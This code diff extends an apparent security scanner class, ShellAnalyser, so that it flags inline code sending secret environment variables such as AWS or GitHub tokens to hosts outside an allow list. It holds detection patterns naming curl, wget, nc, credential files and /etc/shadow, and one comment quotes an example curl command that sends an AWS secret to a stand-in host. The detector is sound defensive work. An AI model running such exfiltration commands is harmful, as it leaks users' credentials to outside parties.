@@ -2035,12 +2035,25 @@ class ShellAnalyser:
         ):
             self.emit("remote_code_execution", "reverse_shell", S.critical, "Inline reverse shell.", ctext)
         self.metadata_check(urls, ctext, code)
+        # one secret variable by name (os.environ['AWS_SECRET_ACCESS_KEY'], process.env.GITHUB_TOKEN, $ENV{…}) sent
+        # by a network call: the inline spelling of `curl https://x/?k=$AWS_SECRET_ACCESS_KEY`, judged the same way
+        secret_vars = inline_secret_env(code) if urls and _INLINE_SENDS_RE.search(code) else []
         for u in urls:
             h = host_of(u)
             if not host_allowed(h, self.policy.allowed_hosts):
                 posts = re.search(r"\.post\(|method\s*=\s*[\"']POST|urlencode|data\s*=", code)
                 secret = re.search(r"environ|getenv|\.ssh|\.aws|id_rsa|credentials|\.env\b|/etc/(passwd|shadow)", code)
-                if posts and secret:
+                if secret_vars:
+                    self.emit(
+                        "credential_access",
+                        "exfiltration",
+                        S.critical,
+                        f"Inline code sends secret environment variable {', '.join('$' + v for v in secret_vars[:3])} "
+                        f"to a host that is not allowed ({h}).",
+                        ctext,
+                    )
+                    self.emit("network_egress", "unlisted_host", S.medium, f"Inline code contacts {h}.", ctext)
+                elif posts and secret:
                     self.emit(
                         "credential_access",
                         "exfiltration",
@@ -7229,6 +7242,41 @@ def _inline_shell_outs(code: str, lang: str) -> list[str]:
             text = m.group(1) if m.group(1) is not None else m.group(3)
             out.append(re.sub(r"\\(.)", r"\1", text))
     return out[:50]
+
+
+# One environment variable read by name in inline code, in each language's spellings (group ``n``: the name):
+# Python os.environ['X'] / os.environ.get('X') / os.getenv('X') / environb[b'X'], node process.env.X /
+# process.env['X'], Deno.env.get('X'), Bun.env.X, import.meta.env.X, perl $ENV{X} / $ENV{'X'}, ruby ENV['X'] /
+# ENV.fetch('X'), PHP getenv('X') / $_ENV['X'] / $_SERVER['X'].
+_INLINE_ENV_NAME_RES = (
+    re.compile(
+        r"(?:\benvironb?\s*(?:\[|\.(?:get|pop|setdefault)\s*\()|\bgetenv\s*\(|(?<![\w$])ENV\s*(?:\[|\.fetch\s*\()|"
+        r"\$_(?:ENV|SERVER)\s*\[|\benv\.get\s*\()\s*[bru]?([\"'`])(?P<n>[A-Za-z_]\w*)\1"
+    ),
+    re.compile(r"\bprocess\.env\??\.(?P<n>[A-Za-z_]\w*)|\bprocess\.env\s*\[\s*([\"'`])(?P<m>[A-Za-z_]\w*)\2"),
+    re.compile(r"\b(?:Bun|meta)\.env\.(?P<n>[A-Za-z_]\w*)"),
+    re.compile(r"\$ENV\s*\{\s*([\"']?)(?P<n>[A-Za-z_]\w*)\1\s*\}"),
+)
+# A network call in inline code (a library, a client or a command it runs): with a URL to an unlisted host and a
+# secret variable, the secret goes to that host.
+_INLINE_SENDS_RE = re.compile(
+    r"\b(?:urlopen|urllib\d?|requests|httpx|aiohttp|pycurl|http\.client|HTTPS?Connection|socket|fetch|axios|got|"
+    r"needle|superagent|XMLHttpRequest|sendBeacon|WebSocket|Net::HTTP|open-uri|URI\.open|HTTParty|Faraday|RestClient|"
+    r"LWP|HTTP::Tiny|Mojo::UserAgent|IO::Socket|file_get_contents|fsockopen|curl_exec|curl|wget|nc|ncat)\b|"
+    r"\bhttps?\.(?:get|request)\s*\(|require\s*\(\s*[\"'](?:node:)?https?[\"']\s*\)"
+)
+
+
+def inline_secret_env(code: str) -> list[str]:
+    """The secret-looking environment variables (``$AWS_SECRET_ACCESS_KEY``, ``$GITHUB_TOKEN``: the names a shell
+    word is tainted for, :data:`_ENV_SECRET_VAR_RE`) that inline code reads one by one, in order, without repeats."""
+    out: list[str] = []
+    for rx in _INLINE_ENV_NAME_RES:
+        for m in rx.finditer(code):
+            name = m.group("n") or (m.group("m") if "m" in rx.groupindex else None)
+            if name and name not in out and _ENV_SECRET_VAR_RE.search("$" + name):
+                out.append(name)
+    return out
 
 
 # Calls that run a command: any module alias (``import subprocess as s; s.call(…)``), exec*/spawn* with argv lists.
